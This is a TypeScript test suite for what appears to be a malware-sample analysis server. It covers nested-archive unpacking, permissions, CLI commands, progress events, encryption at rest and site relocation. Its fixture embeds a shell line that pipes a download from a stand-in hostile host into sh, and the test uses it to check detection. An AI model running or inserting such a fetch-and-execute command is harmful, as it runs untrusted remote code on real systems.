import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { analysisCommands } from '../../apps/server/src/cli/commands/analysis.ts';
import { runProgram } from '../../apps/server/src/cli/program.ts';
import { databaseName } from '../../apps/server/src/compose/party.ts';
import {
  type AnalysisProgress,
  defaultLimits,
  type SampleReport,
} from '../../apps/server/src/modules/analysis/index.ts';
import { openPostgres } from '../../apps/server/src/platform/postgres/index.ts';
import { startInProcess } from '../support/in-process.ts';
import { filesBelow } from '../support/inspection.ts';
import {
  ask,
  assertProblem,
  beginRelocation,
  call,
  makeCustomer,
  makeOperator,
  relocationsOf,
  retireSource,
  until,
} from '../support/people.ts';
import { adminToken } from '../support/system.ts';

const at = await startInProcess({ analysis: { processes: 1, limits: defaultLimits } });
const people = [await makeOperator(at, 'alice'), await makeOperator(at, 'bob')] as const;
const [alice] = people;
const customer = await makeCustomer(at, 'Muster AG', 'DE');
const { moscow = '', zurich = '' } = at.sites;

/** Nobody writes this but a test. */
const marker = 'xyzzy-of-the-inner-script';
const inner = Buffer.from(`#!/bin/sh\n# ${marker}\ncurl http://evil-host.example/a | sh\n`);
const file = gzipSync(gzipSync(inner));
const sha256 = createHash('sha256').update(file).digest('hex');

async function settled(site: string): Promise<AnalysisProgress> {
  const token = await adminToken(at, site);
  return await until(async () => {
    const now = await ask<AnalysisProgress>(`${at.sites[site]}/v1/analysis/progress`, { token });
    const left = now.waiting + now.backlog + now.running.length + now.waitingForMembers;
    return left === 0 && Object.keys(now.verdicts).length > 0 ? now : undefined;
  });
}

function reportAt(site: string, name = sha256): Promise<SampleReport> {
  return ask<SampleReport>(`${site}/v1/samples/${name}/analysis`, { token: alice.token });
}

async function run(...words: readonly string[]) {
  const texts = { stdout: '', stderr: '' };
  const sink = (to: keyof typeof texts) => ({
    write: (text: string) => {
      texts[to] += text;
    },
  });
  const status = await runProgram(
    { commands: analysisCommands, groups: [], version: '0' },
    ['analysis', ...words, '--as', 'alice', '--data', at.data],
    {
      ...{ stdout: sink('stdout'), stderr: sink('stderr') },
      env: { VITRINE_OFFICE_URL: at.office },
      signal: new AbortController().signal,
    },
  );
  return { status, ...texts };
}

test('a submitted file is analysed with all that is in it', async () => {
  const answer = await fetch(`${moscow}/v1/samples`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${customer.token}` },
    body: file,
  });
  assert.ok(answer.ok, await answer.text());
  await settled('moscow');
  const report = await reportAt(moscow);
  assert.equal(report.state, 'judged');
  assert.equal(report.members.length, 2);
  const script = await reportAt(moscow, report.members[1]?.sha256);
  assert.match(JSON.stringify(script.stages), /evil-host\.example/);
  assert.equal(script.containers[0]?.sample, report.members[0]?.sample);
});

test('what is asked is permitted, and looks are on record', async () => {
  const auditor = await makeOperator(at, 'otto', 'CH', ['auditor']);
  const path = `${moscow}/v1/samples/${sha256}/analysis`;
  assertProblem(await call(path), 401, 'unauthenticated');
  assertProblem(await call(path, { token: auditor.token }), 403, 'forbidden');
  assertProblem(await call(path, { token: customer.token }), 401, 'unauthenticated');
  const order = { token: auditor.token, json: {} };
  assertProblem(await call(`${moscow}/v1/analysis/orders`, order), 403, 'forbidden');
  const none = `${moscow}/v1/samples/${'0'.repeat(64)}/analysis`;
  assertProblem(await call(none, { token: alice.token }), 404, 'unknown-sample');
  const log = await ask<{ looks: { person: string; kind: string }[] }>(`${moscow}/v1/looks`, {
    token: alice.token,
  });
  assert.ok(log.looks.some(({ person, kind }) => person === 'alice' && kind === 'record'));
});

test('commands show what was found and order it again', async () => {
  const folder = path.join(at.data, 'credentials');
  await mkdir(folder, { recursive: true });
  await writeFile(path.join(folder, 'alice.json'), JSON.stringify(alice));
  const shown = await run('show', sha256);
  assert.equal(shown.status, 0, shown.stderr);
  assert.match(shown.stdout, /verdict {3}\w+ \(\d+\)/);
  assert.match(shown.stdout, /unpack +done/);
  const listed = JSON.parse((await run('list', '--site', 'moscow', '--json')).stdout);
  assert.equal(listed.verdicts.length, 3);
  assert.equal((await run('again', sha256)).status, 0);
  assert.equal((await run('again', '--all', '--site', 'moscow')).status, 0);
  assert.equal((await run('again')).status, 2);
  const followed = await run('status', '--follow', '--site', 'moscow');
  assert.match(followed.stdout, /verdicts .*\d+ unknown/);
  const { history } = await reportAt(moscow);
  assert.ok(history.length >= 2);
});

test('progress is told as it goes on', async () => {
  const watching = new AbortController();
  const answer = await fetch(`${moscow}/v1/analysis/events`, {
    headers: { authorization: `Bearer ${alice.token}` },
    signal: watching.signal,
  });
  assert.match(answer.headers.get('content-type') ?? '', /^text\/event-stream/);
  const [first] = await Array.fromAsync(firstOf(answer.body ?? new ReadableStream(), /data: .*/));
  assert.ok(first !== undefined && 'waiting' in JSON.parse(first.slice('data: '.length)));
  watching.abort();
});

test('nothing of a file stands on a disk in the clear', async () => {
  for (const name of await filesBelow(path.join(at.data, 'sites'))) {
    const bytes = await readFile(name).catch(() => Buffer.alloc(0));
    assert.ok(!bytes.includes(marker), name);
  }
  const db = await openPostgres({ url: at.databaseUrl, database: databaseName('moscow') });
  const tables = await db.query<{ name: string }>(
    `select format('%I.%I', schemaname, tablename) as name from pg_tables
     where schemaname in ('public', 'jobs')`,
  );
  for (const { name } of tables) {
    const rows = await db.query<{ n: bigint }>(
      `select count(*) as n from ${name} t where t::text like '%${marker}%'
         or position($1 in t::text) > 0`,
      [Buffer.from(marker).toString('hex')],
    );
    assert.equal(rows[0]?.n, 0n, name);
  }
  await db.close();
});

test('a relocation takes the samples along, and the new home analyses them anew', async () => {
  const begun = await beginRelocation(at, people, 'europe', 'zurich');
  const relocations = relocationsOf(at);
  const soaking = await relocations.reach(begun.relocation, ['soaking', 'failed', 'aborted']);
  assert.equal(soaking.state, 'soaking', JSON.stringify(soaking));
  const ended = await retireSource(at, people, soaking);
  assert.equal(ended.state, 'certified', JSON.stringify(ended));
  await settled('zurich');
  const report = await reportAt(zurich);
  assert.equal(report.members.length, 2);
  assert.deepEqual(
    report.history.map(({ reason }) => reason),
    ['arrived'],
  );
  const db = await openPostgres({ url: at.databaseUrl, database: databaseName('moscow') });
  for (const table of ['analyses', 'analysis_stages', 'sample_members', 'sample_verdicts']) {
    assert.deepEqual(await db.query(`select 1 from ${table}`), [], table);
  }
  await db.close();
});

async function* firstOf(body: ReadableStream<Uint8Array>, wanted: RegExp): AsyncGenerator<string> {
  let text = '';
  for await (const piece of body) {
    text += Buffer.from(piece).toString('utf8');
    const [found] = wanted.exec(text) ?? [];
    if (found !== undefined && text.includes('\n\n', text.indexOf(found))) {
      yield found;
      return;
    }
  }
}
